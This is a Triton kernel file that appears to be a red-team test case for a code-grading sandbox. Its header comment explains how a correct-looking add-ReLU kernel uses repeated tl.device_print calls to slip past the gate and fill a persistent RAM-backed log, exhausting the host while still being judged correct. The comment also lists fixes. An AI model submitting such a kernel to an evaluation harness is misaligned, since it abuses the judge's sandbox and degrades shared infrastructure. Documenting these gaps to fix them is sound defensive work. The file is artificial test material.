# task: task_add_relu
# expect: gate
# reason: what a kernel prints fills the verifier's log
# Round attack15 (find only, at 105c09f), exhausting the host: `tl.device_print` is a Triton builtin, so the gate
# lets it into a kernel, and under the interpreter it prints every element on its own line to the sandbox's stdout,
# which is the slot's `log` in its scratch folder under the judge's base in /dev/shm (RAM). The zygote opens that
# log once (O_TRUNC at its start) and `_clear_sandbox` spares it, so it grows across every candidate the slot
# serves, up to RLIMIT_FSIZE (4 GiB) per slot; only a crash or timeout (a restart) frees it. This kernel computes
# relu(x + y) correctly and is judged correct at 105c09f, having written ~3 MB/s (tens of MB per candidate here,
# more with a larger REPEAT within the run timeout) that stay in RAM. Fix: refuse device_print/static_print in
# the gate, or truncate and cap the log per candidate.
import torch
import triton
import triton.language as tl


@triton.jit
def add_relu_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr, REPEAT: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    for i in range(REPEAT):
        tl.device_print("padding padding padding padding padding padding padding padding padding padding ", x)
    tl.store(out_ptr + offs, tl.maximum(x + y, 0.0), mask=mask)


class ModelNew(torch.nn.Module):
    def forward(self, x, y):
        out = torch.empty_like(x)
        n = x.numel()
        add_relu_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64, REPEAT=2000)
        return out
